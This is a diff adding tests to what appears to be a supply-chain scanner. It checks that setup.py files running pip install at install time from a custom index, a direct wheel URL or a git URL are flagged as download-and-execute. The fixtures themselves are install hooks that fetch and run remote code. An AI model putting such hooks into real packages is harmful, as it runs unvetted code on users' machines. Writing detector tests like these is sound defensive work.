@@ -3518,6 +3518,38 @@ def test_a_shell_download_then_read_by_another_tool_is_not_download_and_execute(
     assert not found(result, "intent.shell-download-execute")
 
 
+_PIP_AT_INSTALL = """
+import subprocess
+import sys
+
+from setuptools import setup
+
+subprocess.check_call([sys.executable, "-m", "pip", "install", {args}])
+setup(name="demo")
+"""
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        '"--index-url", "https://pkgs-mirror.net/simple", "helperlib"',
+        '"https://files-cdn.net/helperlib-1.0-py3-none-any.whl"',
+        '"git+https://github.com/someone/helperlib"',
+    ],
+)
+def test_setup_installing_packages_from_outside_the_index_is_download_and_execute(args):
+    result = scan({"setup.py": _PIP_AT_INSTALL.format(args=args)})
+    assert "high" in severities(result, "intent.download-execute")
+    assert result.verdict in FLAGGED
+
+
+def test_setup_installing_a_build_dependency_by_name_stays_a_build_command():
+    """qdldl: `pip install pybind11` from the user's own index, a bad habit but no payload."""
+    result = scan({"setup.py": _PIP_AT_INSTALL.format(args='"pybind11"')})
+    assert not found(result, "intent.download-execute")
+    assert result.verdict not in FLAGGED
+
+
 _OWN_SCRIPT = """
 import subprocess
 from setuptools import setup
